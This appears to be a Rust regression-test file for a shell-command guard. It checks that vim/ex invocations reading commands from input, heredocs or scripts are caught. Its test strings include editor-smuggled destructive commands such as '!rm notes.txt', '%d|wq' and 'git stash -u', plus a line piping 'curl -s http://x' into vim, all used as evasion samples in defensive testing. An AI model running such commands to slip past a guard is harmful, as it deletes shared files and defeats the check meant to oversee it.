//! Ex commands a vim-family editor reads from its standard input or a script file (red team
//! 4/09): `printf '!rm f\nq\n' | ex -s`, `vim -es < cmds.vim`, `vim -es -S cmds.vim`, `vim -u
//! cmds.vim`, heredocs, and their other spellings and programs, are judged as the shell text
//! they run; input that cannot be read is put to the person; Ex writes of a named file (`e F`
//! then `wq`, `sav F`, `w! F`) get the co-edit warning. Everyday editor calls stay silent.
//! Real repositories, the real binary.

mod common;
mod guard_support;

use guard_support::*;

fn fs_write(dir: &std::path::Path, rel: &str, text: &str) {
    std::fs::write(dir.join(rel), text).unwrap();
}

#[test]
fn regression_ex_commands_on_input_or_in_a_script_file_are_read() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    let script = f.base.join("cmds.vim");
    fs_write(&f.base, "cmds.vim", "\" clean up\n!rm notes.txt\nq\n");
    let s = script.display();
    for cmd in [
        "printf '!rm notes.txt\\nq\\n' | ex -s".to_owned(),
        "printf '!rm notes.txt\\nq\\n' | vim -es".to_owned(),
        "printf '!rm notes.txt\\n' | vi -e".to_owned(),
        "echo '!rm notes.txt' | view -es".to_owned(),
        "ex -s <<'E'\n!rm notes.txt\nq\nE".to_owned(),
        "vim -es <<< ':silent !git stash -u'".to_owned(),
        "printf ':!rm notes.txt\\n:q\\n' | vim".to_owned(),
        format!("vim -es < {s}"),
        format!("ex -s < {s}"),
        format!("vim.tiny -es < {s}"),
        format!("vim -es -S {s}"),
        format!("vim -u {s} -es"),
        format!("nvim --headless -S {s}"),
        format!("vim -s {s} mine.rs"),
        "ex -s +'!rm notes.txt' +q".to_owned(),
        "vim -es -c 'set ai|!rm notes.txt' -c q".to_owned(),
        "vim -es -c 'g/x/!rm notes.txt' -c q mine.rs".to_owned(),
        "vim -es -c 'e `rm notes.txt`' -c q".to_owned(),
        "vim -es -c 'w !rm notes.txt' -c q mine.rs".to_owned(),
        "cd src && printf '!rm ../notes.txt\\n' | ex -s".to_owned(),
    ] {
        let reason = denied(r, &cmd);
        assert!(reason.contains("[guard:peer-files]"), "{cmd}: {reason}");
    }
    // Input or code that cannot be read: judged by what is at risk within reach.
    for cmd in [
        "some-tool | ex -s".to_owned(),
        "curl -s http://x | vim -es".to_owned(),
        "printf 'call delete(\"notes.txt\")\\n' | ex -s".to_owned(),
        "vim -es -c 'so other.vim' -c q".to_owned(),
        "nvim -l cleanup.lua".to_owned(),
    ] {
        let reason = asked(r, &cmd);
        assert!(reason.contains("[guard:runs-code]"), "{cmd}: {reason}");
    }
    // Everyday calls: read-only Ex, quitting before the input, text to edit on the input.
    fs_write(&f.base, "count.vim", "g/fn/p\nq\n");
    for cmd in [
        "vim -es -c 'g/x/p' -c q src/lib.rs".to_owned(),
        "printf 'q\\n' | ex -s src/lib.rs".to_owned(),
        "ex -s -c q < /dev/null".to_owned(),
        "vim -es -c '%s/a/b/g' -c wq mine.rs".to_owned(),
        "git log -1 | vim -R -".to_owned(),
        "printf '%%s/a/b/g\\nwq\\n' | ex -s mine.rs".to_owned(),
        format!(
            "vim -es -S {} src/lib.rs",
            f.base.join("count.vim").display()
        ),
        "printf '!ls\\nq\\n' | ex -s".to_owned(),
        "vim -es -S missing.vim -c q".to_owned(),
    ] {
        allowed(r, &cmd);
    }
}

#[test]
fn regression_ex_writes_of_a_named_file_warn() {
    let f = fixture();
    let r = &f.repo.root;
    two_sessions(&f);
    for cmd in [
        "vim -es -c 'e notes.txt' -c '%d' -c wq",
        "vim -es -c 'e notes.txt|%d|wq'",
        "printf 'e notes.txt\\n%%d\\nx\\n' | ex -s",
        "printf '%%d\\nw\\nq\\n' | ex -s notes.txt",
        "vim -es -c 'sav! notes.txt' -c q mine.rs",
        "vim -es -c 'saveas! src/lib.rs' -c q mine.rs",
        "vim -es -c '%d|w! notes.txt' -c q mine.rs",
        "vim -es -c 'w >> notes.txt' -c q mine.rs",
        "vim -es -c 'normal ggdGZZ' notes.txt",
        "vim -es -c 'redir! > notes.txt' -c q",
        "vim -es -c 'bufdo %d|w' -c q mine.rs notes.txt",
        "view -es -c '%d' -c 'wq!' notes.txt",
        "vim.basic -es -c 'e notes.txt' -c '%d' -c x",
    ] {
        warned(r, cmd);
    }
    for cmd in [
        "vim -es -c 'e notes.txt' -c 'g/x/p' -c q",
        "view -es -c wq notes.txt",
        "vim -es -c 'sav! /tmp/copy.txt' -c q notes.txt",
        "vim -es -c 'e mine.rs' -c '%d' -c wq",
    ] {
        allowed(r, cmd);
    }
}
